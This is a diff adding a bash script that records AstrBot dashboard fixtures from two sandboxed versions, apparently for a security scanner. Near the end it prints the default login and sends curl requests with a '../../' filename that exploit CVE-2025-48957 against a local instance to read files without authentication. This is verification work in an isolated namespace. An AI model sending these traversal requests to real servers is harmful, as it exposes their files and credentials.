@@ -1,0 +1,84 @@
+#!/usr/bin/env bash
+# Records the AstrBot fixtures from real AstrBot instances (PyPI astrbot, a fresh data folder each), each with HOME, PATH,
+# ASTRBOT_ROOT and DASHBOARD_PORT as its only environment, in a fresh network namespace (`unshare -n`, root) whose only
+# interface is lo:
+#   4.14.6, first start with its defaults (login astrbot / astrbot, dashboard on 0.0.0.0)    -> default
+#   3.5.12, the same (inside CVE-2025-48957's range, >= 3.4.4 < 3.5.13)                     -> v3-default
+# 4.14.6 is the last release for Python 3.10 and 3.11 (4.14.7 on need 3.12). The dashboard has no switch that turns its
+# login off, so both read auth-required; neither reveals its version without a login.
+# Offline, both start without their WebUI: `astrbot run` downloads it (data/dist) from astrbot-registry.soulter.top, then
+# github.com, and exits when that fails, so AstrBot is started as the source tree's main.py starts it once its download
+# failed (below). The UI is only static files; the API, its auth check and the 404 answer are the same with it. At
+# start, 4.14.6 also tries api.soulter.top (text-to-image endpoints) and models.dev (LLM metadata), and goes on.
+# 3.5.12 is installed as of its release week (uv --exclude-newer): its requirements have no upper bounds.
+# Usage: bash scripts/capture/astrbot.sh   (needs root for unshare; the network only for pip)
+set -euo pipefail
+
+VERSION=4.14.6
+OLD_VERSION=3.5.12
+OLD_RESOLVED_AS_OF=2025-05-30
+ROOT=$(cd "$(dirname "$0")/../.." && pwd)
+PUBLIC_HOST=203.0.113.185
+VENV="$ROOT/.venv-capture/astrbot-$VERSION"
+OLD_VENV="$ROOT/.venv-capture/astrbot-$OLD_VERSION"
+
+# shellcheck source=scripts/capture/common.sh
+. "$ROOT/scripts/capture/common.sh"
+if [ "${CAPTURE_IN_NETNS:-}" != 1 ]; then
+  ensure_venv "$VENV" "astrbot==$VERSION"
+  ensure_venv_with_uv "$OLD_VENV" --exclude-newer "$OLD_RESOLVED_AS_OF" "astrbot==$OLD_VERSION"
+fi
+enter_isolated_netns "$0" "$@"
+
+make_workdir astrbot
+# main.py's start once check_dashboard_files() has given up on the download, from the root folder as main.py is run (some
+# paths are relative to it): its data folders, the log broker, the loader.
+cat >"$WORK/launch.py" <<'PYTHON'
+import asyncio
+import os
+
+os.chdir(os.environ["ASTRBOT_ROOT"])
+from astrbot.core import LogBroker, LogManager, db_helper, logger
+from astrbot.core.initial_loader import InitialLoader
+
+for folder in ("data/config", "data/plugins", "data/temp"):
+    os.makedirs(folder, exist_ok=True)
+log_broker = LogBroker()
+LogManager.set_queue_handler(logger, log_broker)
+asyncio.run(InitialLoader(db_helper, log_broker).start())
+PYTHON
+
+# serve NAME VENV PORT: AstrBot in a fresh root folder of its own, its dashboard on PORT.
+serve() {
+  local name=$1 venv=$2 port=$3
+  mkdir -p "$WORK/$name/home" "$WORK/$name/root"
+  serve_tracked "$WORK/$name.log" "http://127.0.0.1:$port/" \
+    env -i HOME="$WORK/$name/home" PATH="$venv/bin:/usr/bin:/bin" ASTRBOT_ROOT="$WORK/$name/root" DASHBOARD_PORT="$port" \
+    "$venv/bin/python" "$WORK/launch.py"
+}
+serve default "$VENV" 19850
+serve v3-default "$OLD_VENV" 19851
+echo "--- listeners in the namespace:"
+ss -ltnp
+echo "--- the dashboard login each wrote on first start (the MD5 of \"astrbot\" is 77b90590a8945a7d36c963981a307dc9):"
+for name in default v3-default; do
+  "$VENV/bin/python" -c 'import json, sys; d = json.load(open(sys.argv[1], encoding="utf-8-sig"))["dashboard"]; print(sys.argv[2], d["username"], d["password"], d["host"])' \
+    "$WORK/$name/root/data/cmd_config.json" "$name"
+done
+echo "--- CVE-2025-48957 on $OLD_VERSION: /api/chat/get_file reads a file of its data folder without a login:"
+echo "a file the capture wrote" >"$WORK/v3-default/root/data/capture-marker.txt"
+curl -s -w ' (%{http_code})\n' 'http://127.0.0.1:19851/api/chat/get_file?filename=../../capture-marker.txt'
+echo "--- on $VERSION the route needs a login:"
+curl -s -w ' (%{http_code})\n' 'http://127.0.0.1:19850/api/chat/get_file?filename=../../cmd_config.json'
+
+record() {
+  (cd "$ROOT" && node_modules/.bin/tsx scripts/record-fixtures.ts --family astrbot --port 6185 --host "$PUBLIC_HOST:6185" \
+    --product AstrBot --verdict auth-required "$@")
+}
+HOW="python <main.py's start without the WebUI download: InitialLoader(db_helper, LogBroker()).start()> in an empty root folder (environment: HOME, PATH, ASTRBOT_ROOT=<that folder> and DASHBOARD_PORT=<port> only; in an unshare -n namespace with only lo)"
+record --case default --url http://127.0.0.1:19850 --version "$VERSION" --python-env "$VENV" \
+  --description "AstrBot $VERSION on first start with its defaults: every dashboard /api path but a few public ones answers 401 without a login (the login is astrbot / astrbot until changed); unknown paths get its own 404 text" \
+  --how "PyPI astrbot==$VERSION; $HOW"
+record --case v3-default --url http://127.0.0.1:19851 --version "$OLD_VERSION" --python-env "$OLD_VENV" \
+  --description "AstrBot $OLD_VERSION on first start with its defaults: the dashboard API answers 401 without a login, but /api/chat/get_file reads any file without one (CVE-2025-48957), which the probe never asks" \
+  --how "PyPI astrbot==$OLD_VERSION resolved with uv --exclude-newer $OLD_RESOLVED_AS_OF; $HOW"
